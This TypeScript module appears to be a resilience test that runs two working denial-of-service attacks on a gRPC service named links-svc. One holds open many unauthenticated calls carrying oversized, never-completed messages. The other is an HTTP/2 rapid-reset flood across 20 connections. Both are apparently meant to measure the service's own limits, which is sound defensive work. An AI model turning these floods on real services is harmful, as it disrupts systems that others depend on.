import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import { tally } from './flood.ts';

const BODIES = 150;
/** Just below the largest message. */
const BODY_BYTES = Math.floor(7.9 * 1_024 * 1_024);
const HOLD_MS = 10_000;

const RESET_CONNECTIONS = 20;
const RESETS_PER_CONNECTION = 100;
const RESET_FOR_MS = 10_000;
const CALL = {
  ':method': 'POST',
  ':path': '/links.v1.LinksService/CreateLink',
  'content-type': 'application/grpc',
  te: 'trailers',
  'grpc-timeout': '60S',
};

/** Calls without an identity at the gRPC port of links-svc. */
export const grpcAttacks: readonly Attack[] = [
  {
    name: 'grpc: bodies',
    about: `begins ${BODIES} calls without an identity on one connection, each with a message of 7.9 MiB, and ends none`,
    service: 'links-svc',
    measureMs: HOLD_MS,
    async prepare({ linksGrpc }) {
      // The length of the message is one byte more than what is sent.
      const body = Buffer.alloc(BODY_BYTES);
      body.writeUInt32BE(BODY_BYTES - 4, 1);
      return {
        async run() {
          const session = await open(linksGrpc);
          const held = new Set<ClientHttp2Stream>();
          for (let n = 0; n < BODIES; n++) {
            const stream = session.request(CALL);
            held.add(stream);
            stream.on('error', () => {});
            stream.once('end', () => held.delete(stream)).once('close', () => held.delete(stream));
            stream.resume();
            stream.write(body);
          }
          await sleep(HOLD_MS);
          const heldAtEnd = held.size;
          session.destroy();
          return [`calls that links-svc refused: ${BODIES - heldAtEnd}, held: ${heldAtEnd}`];
        },
      };
    },
  },
  {
    name: 'grpc: resets',
    about:
      `opens ${RESET_CONNECTIONS} connections, begins and resets ${RESETS_PER_CONNECTION} calls on each, ` +
      `and repeats that for ${RESET_FOR_MS / 1_000} s`,
    service: 'links-svc',
    measureMs: RESET_FOR_MS,
    async prepare({ linksGrpc }) {
      return {
        async run() {
          const outcomes: string[] = [];
          const deadline = performance.now() + RESET_FOR_MS;
          const attack = async () => {
            while (performance.now() < deadline) outcomes.push(await resetCalls(linksGrpc));
          };
          await Promise.all(Array.from({ length: RESET_CONNECTIONS }, attack));
          return [`connections: ${tally(outcomes)}`];
        },
      };
    },
  },
];

/** Connects to an address of gRPC. Rejects if the connection is refused. */
function open(address: string): Promise<ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    const session = connect(`http://${address}`);
    session.on('error', reject);
    session.once('close', () => reject(new Error('The connection was closed.')));
    session.once('remoteSettings', () => resolve(session));
  });
}

/** Begins and resets calls on a new connection. Returns what became of the connection. */
async function resetCalls(address: string): Promise<string> {
  let session: ClientHttp2Session;
  try {
    session = await open(address);
  } catch {
    return 'refused';
  }
  for (let n = 0; n < RESETS_PER_CONNECTION; n++) {
    const stream = session.request(CALL);
    stream.on('error', () => {});
    stream.close(constants.NGHTTP2_CANCEL);
  }
  const isOpen = await isAlive(session);
  session.destroy();
  return isOpen ? 'not limited' : 'closed';
}

/** Returns whether the service still answers on a connection, after everything that was sent on it. */
function isAlive(session: ClientHttp2Session): Promise<boolean> {
  return new Promise((resolve) => {
    session.once('close', () => resolve(false));
    session.ping((error) => resolve(error === null));
  });
}
